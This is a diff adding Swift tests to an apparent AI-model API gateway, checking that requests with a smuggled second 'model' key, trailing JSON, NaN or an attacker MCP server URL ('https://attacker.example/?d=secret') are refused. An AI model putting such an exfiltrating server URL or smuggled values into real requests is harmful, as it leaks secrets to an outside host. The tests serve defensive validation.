@@ -20,6 +20,15 @@ struct ModelGatewayTests {
         #expect(throws: ModelRequest.Problem.notAnObject) { try model(#"["model", "x"]"#) }
         #expect(throws: ModelRequest.Problem.truncated) { try model(#"{"messages": [{"content": "never ends"#) }
         #expect(throws: ModelRequest.Problem.truncated) { try model(#"{"model": "x", "#) }
+        #expect(throws: ModelRequest.Problem.trailing) { try model(#"{"model": "claude-sonnet-4-5"} {"model": "claude-opus-4-1"}"#) }
+        #expect(throws: ModelRequest.Problem.notJSON) { try model(#"{"a": 1/*, "model": "claude-haiku-4-5"*/, "model": "claude-opus-4-1"}"#) }
+        #expect(throws: ModelRequest.Problem.notJSON) { try model(#"{"a": [1, /* "model": "x" */ 2], "model": "claude-opus-4-1"}"#) }
+        #expect(throws: ModelRequest.Problem.notJSON) { try model(#"{"t": NaN, "model": "claude-opus-4-1"}"#) }
+        #expect(throws: ModelRequest.Problem.reachesOut("mcp_servers")) {
+            try model(#"{"model": "claude-sonnet-4-5", "mcp_servers": [{"type": "url", "url": "https://attacker.example/?d=secret"}]}"#)
+        }
+        #expect(ModelGateway.refusedBeta(["claude-code-20250219,interleaved-thinking-2025-05-14", "oauth-2025-04-20"]) == nil)
+        #expect(ModelGateway.refusedBeta(["claude-code-20250219, mcp-client-2025-04-04"]) == "mcp-client-2025-04-04")
     }
 
     @Test("the meter reads a streamed answer's tokens from message_start and the last message_delta, cache writes split by lifetime")
